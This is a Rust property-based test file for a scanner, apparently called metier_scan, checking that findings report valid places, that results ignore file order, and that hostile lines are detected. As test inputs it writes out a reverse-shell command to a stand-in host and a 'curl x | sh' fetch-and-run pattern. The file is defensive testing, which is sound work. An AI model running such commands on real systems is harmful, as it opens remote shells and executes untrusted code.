//! Laws: any bytes give a report, the same bytes the same one, and the order of files means nothing.
//! Bytes are bounded, so that a run stays short.

use metier_scan::Scanner;
use proptest::prelude::*;

fn report(files: &[(String, Vec<u8>)]) -> metier_scan::FindingReport {
    let mut scanner = Scanner::new();
    for (path, bytes) in files {
        scanner.file(path, bytes);
    }
    scanner.finish()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_bytes_give_a_report_with_true_places(bytes in prop::collection::vec(any::<u8>(), 0..400), name in "[a-z]{1,4}\\.(md|sh|js|bin)") {
        let report = report(&[(name, bytes.clone())]);
        let text = String::from_utf8_lossy(&bytes);
        for finding in &report.findings {
            prop_assert!(finding.line <= text.split('\n').count());
            prop_assert!(!finding.evidence.contains(|ch: char| ch.is_control()));
        }
        prop_assert!(report.coverage.inspected_bytes <= report.coverage.bytes);
    }

    #[test]
    fn any_text_with_an_attack_inside_is_found(before in "[ -~\n]{0,80}", after in "[ -~\n]{0,80}") {
        let text = format!("{before}\nbash -i >& /dev/tcp/h/1\n{after}");
        let report = report(&[("a.sh".to_owned(), text.into_bytes())]);
        prop_assert!(report.findings.iter().any(|it| it.rule == "reverse-shell"));
    }

    #[test]
    fn the_order_of_files_means_nothing(texts in prop::collection::vec("[a-z |`\n]{0,40}(curl x \\| sh)?", 0..5)) {
        let mut files: Vec<(String, Vec<u8>)> =
            texts.into_iter().enumerate().map(|(at, text)| (format!("{at}.sh"), text.into_bytes())).collect();
        let forwards = report(&files);
        files.reverse();
        prop_assert_eq!(forwards, report(&files));
    }
}
